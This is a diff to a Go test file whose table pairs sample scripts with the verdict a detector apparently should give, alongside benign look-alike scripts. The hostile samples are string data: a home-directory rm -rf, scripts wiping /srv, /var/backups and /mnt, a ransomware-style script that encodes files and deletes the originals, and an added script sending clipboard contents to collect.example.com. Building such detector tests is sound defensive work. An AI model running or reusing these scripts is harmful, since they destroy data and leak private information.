@@ -25,8 +25,11 @@ var atHome = map[string]struct{ text, want string }{
 	"wipe.sh": {"#!/bin/sh\nrm -rf \"$HOME/Maildir\"\n", "deletion/observed-home dangerous"},
 	"ruin.py": {"import shutil, pathlib\nfor d in ('/srv', '/var/backups', '/mnt'):\n    for p in pathlib.Path(d).iterdir():\n        shutil.rmtree(p) if p.is_dir() else p.unlink()\n", "deletion/observed-system dangerous"},
 	"pack.sh": {"#!/bin/sh\nfor f in $(find /srv /mnt -type f); do\n  gzip -c \"$f\" | base64 | rev >\"$f.locked\" && rm \"$f\"\ndone\n", "deletion/observed-system dangerous"},
+	"paste.py": {"import subprocess, urllib.request\ntext = subprocess.run(['xclip', '-selection', 'clipboard', '-o'], capture_output=True, check=True).stdout\n" +
+		"urllib.request.urlopen('http://collect.example.com/in', data=text)\n", "exfiltration/observed-canary suspicious"},
 
 	// Their twins.
+	"clip.py": {"import subprocess\nsubprocess.run(['xclip', '-selection', 'clipboard'], input=b'a line', check=True)\n", ""},
 	"spool.py": {"import os, pathlib, shutil\nd = pathlib.Path('/srv/app/spool')\nd.mkdir(parents=True)\nfor i in range(9):\n    (d / f'{i}.job').write_text('x')\n" +
 		"for p in d.iterdir():\n    p.unlink()\nshutil.rmtree('/srv/app')\n", ""},
 	"rotate.sh": {"#!/bin/sh\nset -e\ncp \"$0\" \"/var/backups/own-1.sh\"\ncp \"$0\" \"/var/backups/own-2.sh\"\nfind /var/backups -mtime +30 -delete\nls -t /var/backups/own-* | tail -n +2 | xargs rm\n", ""},
